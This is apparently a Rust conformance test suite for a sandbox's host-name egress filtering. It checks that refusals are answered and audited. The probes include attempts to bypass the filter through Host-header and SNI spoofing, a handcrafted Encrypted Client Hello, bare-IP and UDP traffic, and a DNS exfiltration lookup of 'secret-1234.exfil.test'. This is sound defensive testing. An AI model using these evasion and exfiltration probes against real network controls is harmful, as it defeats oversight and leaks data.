//! Egress by host name for `mxc run`, against the egress test world (its own DNS server, HTTP
//! and TLS servers for several names on one address, a server-first TCP service, a UDP
//! listener; 198.18.0.0/15 only). The sandbox's clients are curl (with and without the proxy
//! variables) and small Python probes; every refusal must reach the client as a clear answer
//! and the audit log as a line.

use std::process::Command;
use std::time::{Duration, Instant};

use anyhow::Result;
use mxc_conformance::bins;
use mxc_conformance::command::run;
use mxc_conformance::egress_world::{EgressWorld, BANNER_PORT, HTTPS_PORT, HTTP_PORT, UDP_PORT};
use mxc_conformance::leaks::LeakCheck;
use mxc_conformance::unique_name;
use serde_json::{json, Value};

const LIMIT: Duration = Duration::from_secs(90);

struct Outcome {
    stdout: String,
    stderr: String,
    audit: Vec<Value>,
}

impl Outcome {
    fn denials(&self) -> Vec<&Value> {
        self.audit
            .iter()
            .filter(|r| r["event"] == "network.denied" || r["event"] == "name.denied")
            .collect()
    }

    fn has(&self, tag: &str) -> bool {
        self.stdout.lines().any(|line| line == tag)
    }

    fn denied(&self, test: impl Fn(&Value) -> bool) -> bool {
        self.denials().into_iter().any(test)
    }
}

/// `mxc run` of `command` with a default-deny policy and `flags` (host rules, the resolver).
fn mxc_run(world: &EgressWorld, command: &str, flags: &[&str]) -> Result<Outcome> {
    let id = unique_name("egress");
    let config = json!({
        "version": "0.8.0-alpha",
        "containerId": id,
        "process": {"commandLine": command, "timeout": 60000},
        "network": {"egress": {"default": "deny"}},
    });
    let dir = mxc_conformance::scratch_dir("mxc-egress-")?;
    let file = dir.path().join("config.json");
    let audit = dir.path().join("audit.jsonl");
    std::fs::write(&file, config.to_string())?;
    let mut leaks = LeakCheck::snapshot();
    leaks.container(&id).watch_dir("/run/mxc");
    let mut cmd = Command::new(bins::mxc()?);
    cmd.arg("run")
        .arg("--resolver")
        .arg(world.resolver())
        .args(flags)
        .arg("--audit-log")
        .arg(&audit)
        .arg(&file);
    let output = run(&mut cmd, LIMIT)?;
    leaks.assert_clean()?;
    let audit = std::fs::read_to_string(&audit)
        .unwrap_or_default()
        .lines()
        .map(serde_json::from_str)
        .collect::<Result<_, _>>()?;
    Ok(Outcome {
        stdout: output.stdout,
        stderr: output.stderr,
        audit,
    })
}

/// curl without the proxy variables (captured transparently): `TAG=<status>`, 000 when refused.
/// The proxy inside the sandbox: HTTP CONNECT, HTTP forwarding and SOCKS5 on one port.
const SOCKS: &str = "127.0.0.1:3128";

fn curl(tag: &str, args: &str) -> String {
    format!("echo {tag}=$(curl -sS -m 10 --noproxy '*' -o /dev/null -w '%{{http_code}}' {args} 2>/dev/null); ")
}

/// curl through the proxy variables (HTTP forwarding or CONNECT).
fn curl_proxied(tag: &str, args: &str) -> String {
    format!("echo {tag}=$(curl -sS -m 10 -o /dev/null -w '%{{http_code}}' {args} 2>/dev/null); ")
}

/// A Python probe run with `/usr/bin/python3 -c`.
fn python(source: &str) -> String {
    format!("/usr/bin/python3 -c '{}'; ", source.replace('\'', "'\\''"))
}

/// A ClientHello for `name` offering Encrypted Client Hello, sent to `name:port`; prints
/// `ech=<hex of the answer>`.
fn ech_probe(name: &str, port: u16) -> String {
    python(&format!(
        r#"
import socket, struct, os
n = b"{name}"
sni = struct.pack("!HBH", len(n) + 3, 0, len(n)) + n
ext = struct.pack("!HH", 0, len(sni)) + sni + struct.pack("!HH", 0xfe0d, 8) + bytes(8)
body = b"\x03\x03" + os.urandom(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" + struct.pack("!H", len(ext)) + ext
hs = b"\x01" + len(body).to_bytes(3, "big") + body
s = socket.create_connection((n.decode(), {port}), timeout=5)
s.sendall(b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs)
try:
    print("ech=" + s.recv(64).hex())
except Exception as e:
    print("ech=error")
"#
    ))
}

/// The server-first service at `name:port`: `TAG=<banner>|<echo>` or `TAG=refused`.
fn banner_probe(tag: &str, name: &str, port: u16) -> String {
    python(&format!(
        r#"
import socket
try:
    s = socket.create_connection(("{name}", {port}), timeout=5)
    s.settimeout(5)
    banner = s.recv(100).decode().strip()
    s.sendall(b"hello")
    print("{tag}=" + banner + "|" + s.recv(100).decode().strip())
except Exception:
    print("{tag}=refused")
"#
    ))
}

/// One UDP datagram to `host:port`: `TAG=answer` or `TAG=none`.
fn udp_probe(tag: &str, host: &str, port: u16) -> String {
    python(&format!(
        r#"
import socket
try:
    a = socket.getaddrinfo("{host}", {port}, type=socket.SOCK_DGRAM)[0]
    s = socket.socket(a[0], socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"quic?", a[4])
    s.recv(100)
    print("{tag}=answer")
except Exception:
    print("{tag}=none")
"#
    ))
}

#[test]
fn names_decide_egress_and_every_refusal_is_answered_and_logged() -> Result<()> {
    let world = EgressWorld::start()?;
    let ip = world.address();
    let http = |name: &str| format!("http://{name}:{HTTP_PORT}/");
    let command = [
        curl("exact", &http("api.allowed.test")),
        curl("exact_only", &http("www.allowed.test")),
        curl("wild_sub", &http("a.b.wild.test")),
        curl("wild_apex", &http("wild.test")),
        curl("apex", &http("apex.test")),
        curl("apex_sub", &http("x.apex.test")),
        curl("same_address", &http("other.test")),
        curl_proxied("same_address_proxied", &http("other.test")),
        curl_proxied("exact_proxied", &http("api.allowed.test")),
        // SOCKS5 with the name resolved by the proxy, on the proxy variables' port.
        curl_proxied("socks", &format!("--socks5-hostname {SOCKS} {}", http("api.allowed.test"))),
        curl_proxied("socks_denied", &format!("--socks5-hostname {SOCKS} {}", http("other.test"))),
        curl("host_header", &format!("-H 'Host: other.test' {}", http("api.allowed.test"))),
        curl("tls", &format!("-k https://api.allowed.test:{HTTPS_PORT}/")),
        curl_proxied("tls_proxied", &format!("-k https://api.allowed.test:{HTTPS_PORT}/")),
        curl(
            "sni",
            &format!("-k --connect-to other.test:{HTTPS_PORT}:api.allowed.test:{HTTPS_PORT} https://other.test:{HTTPS_PORT}/"),
        ),
        ech_probe("api.allowed.test", HTTPS_PORT),
        curl("direct_ip", &format!("http://{ip}:{HTTP_PORT}/")),
        curl_proxied("direct_ip_proxied", &format!("http://{ip}:{HTTP_PORT}/")),
        curl("hostlocal", &http("hostlocal.allowed.test")),
        banner_probe("ssh", "git.allowed.test", BANNER_PORT),
        curl("git_other_port", &http("git.allowed.test")),
        udp_probe("udp_name", "api.allowed.test", UDP_PORT),
        udp_probe("udp_ip", &ip.to_string(), UDP_PORT),
        "getent hosts secret-1234.exfil.test >/dev/null && echo exfil=resolved || echo exfil=nxdomain; ".into(),
    ]
    .concat();
    let out = mxc_run(
        &world,
        &command,
        &[
            "--allow-host",
            "api.allowed.test",
            "--allow-host",
            "*.wild.test",
            "--allow-host",
            "**.apex.test",
            "--allow-host",
            "git.allowed.test:2222",
            "--allow-host",
            "hostlocal.allowed.test",
        ],
    )?;
    let context = format!("{}\n{}\n{:#?}", out.stdout, out.stderr, out.audit);
    for tag in [
        "exact=200",
        "exact_only=000",
        "wild_sub=200",
        "wild_apex=000",
        "apex=200",
        "apex_sub=200",
        "same_address=000",
        "same_address_proxied=403",
        "exact_proxied=200",
        "socks=200",
        "socks_denied=000",
        "host_header=403",
        "tls=200",
        "tls_proxied=200",
        "sni=000",
        // A fatal access_denied alert.
        "ech=15030300020231",
        "direct_ip=403",
        "direct_ip_proxied=403",
        "hostlocal=403",
        "ssh=SSH-2.0-world|echo hello",
        "git_other_port=403",
        "udp_name=none",
        "udp_ip=none",
        "exfil=nxdomain",
    ] {
        assert!(out.has(tag), "{tag}: {context}");
    }
    // A denied name's lookup never left the sandbox.
    assert!(!world.dns_log().contains("exfil"), "{}", world.dns_log());
    assert!(world.udp_log().is_empty(), "UDP left: {}", world.udp_log());

    // Every refusal is an audit line naming what was asked and why.
    let denied = |via: &str, field: &str, value: &str, reason: &str| {
        out.denied(|r| {
            r["via"] == via
                && r[field] == value
                && r["reason"].as_str().is_some_and(|t| t.contains(reason))
        })
    };
    assert!(
        denied("dns", "name", "secret-1234.exfil.test", "not allowed"),
        "{context}"
    );
    assert!(
        denied("dns", "name", "other.test", "not allowed"),
        "{context}"
    );
    assert!(
        denied("http", "name", "other.test", "not allowed"),
        "{context}"
    );
    assert!(
        denied("socks", "name", "other.test", "not allowed"),
        "{context}"
    );
    assert!(
        denied("transparent", "host", "other.test", "Host differs"),
        "{context}"
    );
    assert!(
        denied("transparent", "sni", "other.test", "server name differs"),
        "{context}"
    );
    assert!(
        denied(
            "transparent",
            "name",
            "api.allowed.test",
            "Encrypted Client Hello"
        ),
        "{context}"
    );
    assert!(
        denied(
            "transparent",
            "destination",
            &ip.to_string(),
            "bare address"
        ),
        "{context}"
    );
    assert!(
        denied("http", "destination", &ip.to_string(), "bare address"),
        "{context}"
    );
    assert!(
        denied("transparent", "name", "hostlocal.allowed.test", "local"),
        "{context}"
    );
    assert!(
        denied("transparent", "name", "git.allowed.test", "not allowed"),
        "{context}"
    );
    assert!(
        out.denied(|r| r["protocol"] == "udp" && r["port"] == UDP_PORT),
        "{context}"
    );
    for record in out.denials() {
        assert_eq!(record["policy_sha256"].as_str().map(str::len), Some(64));
        assert!(
            record["time"].is_string()
                && record["container"].is_string()
                && record["rule"].is_string()
        );
    }
    Ok(())
}

#[test]
fn each_connection_follows_the_name_as_it_resolves_now() -> Result<()> {
    let world = EgressWorld::start()?;
    let url = format!("http://moving.allowed.test:{HTTP_PORT}/");
    // Two connections, a pause between them; a long download through the proxy last.
    let command = format!(
        "curl -sS -m 10 --noproxy '*' {url}; sleep 3; curl -sS -m 10 --noproxy '*' {url}; \
         curl -sS -m 60 --noproxy '*' -o /dev/null -w 'size=%{{size_download}}\\n' \
         http://moving.allowed.test:{HTTP_PORT}/bytes/104857600"
    );
    let mxc = bins::mxc()?;
    let resolver = world.resolver();
    let runner = std::thread::spawn(move || {
        let dir = mxc_conformance::scratch_dir("mxc-egress-")?;
        let file = dir.path().join("config.json");
        std::fs::write(
            &file,
            json!({"version": "0.8.0-alpha", "process": {"commandLine": command, "timeout": 60000}})
                .to_string(),
        )?;
        run(
            Command::new(mxc)
                .args([
                    "run",
                    "--resolver",
                    &resolver,
                    "--allow-host",
                    "**.allowed.test",
                ])
                .arg(&file),
            LIMIT,
        )
    });
    // Once the first connection has looked the name up, move it.
    let deadline = Instant::now() + Duration::from_secs(30);
    while !world.dns_log().contains("moving.allowed.test") && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(300));
    world.set_record("moving.allowed.test", world.second_address())?;
    let output = runner.join().expect("runner")?;
    let first = format!("{} path=", world.address());
    let second = format!("{} path=", world.second_address());
    let lines: Vec<&str> = output.stdout.lines().collect();
    assert!(
        lines.len() == 3 && lines[0].contains(&first) && lines[1].contains(&second),
        "{output}"
    );
    assert_eq!(lines[2], "size=104857600", "{output}");
    Ok(())
}

#[test]
fn bad_host_patterns_are_refused_before_anything_runs() -> Result<()> {
    let dir = mxc_conformance::scratch_dir("mxc-egress-")?;
    let file = dir.path().join("config.json");
    std::fs::write(
        &file,
        json!({"version": "0.8.0-alpha", "process": {"commandLine": "true"}}).to_string(),
    )?;
    let mut leaks = LeakCheck::snapshot();
    leaks.watch_dir("/run/mxc");
    for (pattern, why) in [
        ("*.co.uk", "public suffix"),
        ("*", "every host"),
        ("com", "top-level"),
    ] {
        let output = run(
            Command::new(bins::mxc()?)
                .args(["run", "--allow-host", pattern])
                .arg(&file),
            LIMIT,
        )?;
        assert_eq!(output.code(), Some(1), "{output}");
        assert!(
            output.stderr.contains("--allow-host[0]") && output.stderr.contains(why),
            "{output}"
        );
    }
    leaks.assert_clean()?;
    Ok(())
}
